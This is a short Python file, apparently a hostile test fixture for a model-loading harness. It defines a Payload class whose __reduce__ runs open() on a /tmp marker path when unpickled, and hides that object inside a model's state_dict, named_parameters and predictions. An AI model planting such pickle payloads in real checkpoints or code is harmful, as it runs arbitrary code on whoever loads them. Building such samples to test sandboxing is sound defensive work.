"""Hides an object with a __reduce__ in its answers and in its state."""

class Payload:
    def __reduce__(self):
        return (open, ("/tmp/bh_pwn_pickle", "w"))


class Model(Line):
    def state_dict(self, *args, **kwargs):
        return {**super().state_dict(*args, **kwargs), "linear.weight": Payload()}

    def named_parameters(self, *args, **kwargs):
        yield "linear.weight", Payload()


def build(cfg):
    return Model(cfg.drop)


def predict(model, inputs):
    return Payload()
